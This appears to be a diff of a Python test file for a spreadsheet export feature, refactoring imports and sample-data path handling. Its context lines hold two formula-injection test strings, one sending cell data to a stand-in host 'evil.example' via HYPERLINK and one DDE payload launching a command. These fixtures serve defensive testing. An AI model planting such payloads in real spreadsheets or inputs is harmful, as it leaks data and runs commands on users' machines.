@@ -8,7 +8,6 @@ import json
 import re
 from dataclasses import dataclass
 from datetime import datetime
-from pathlib import Path
 from typing import Any
 from zoneinfo import ZoneInfo
 
@@ -16,9 +15,9 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from tests.conftest import Api, Workshop
+from tests.support.api import Api, Workshop
+from tests.support.config import SAMPLE_PROPOSALS
 
-SAMPLE = Path(__file__).resolve().parent / "data" / "sample-proposals.csv"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
 FORMULA_BODY = "@SUM(1+1)*cmd|' /C calc'!A0"
 FAMILY_TITLE = "Færre høringsrunder på små reguleringsplaner – også i Øyer og Åsnes"
@@ -29,9 +28,9 @@ def today() -> str:
 
 
 def sample_rows() -> list[dict[str, str]]:
-    if not SAMPLE.exists():
-        pytest.skip(f"sample data missing: {SAMPLE}")
-    with SAMPLE.open(encoding="utf-8", newline="") as handle:
+    if not SAMPLE_PROPOSALS.exists():
+        pytest.skip(f"sample data missing: {SAMPLE_PROPOSALS}")
+    with SAMPLE_PROPOSALS.open(encoding="utf-8", newline="") as handle:
         return list(csv.DictReader(handle))
 
 
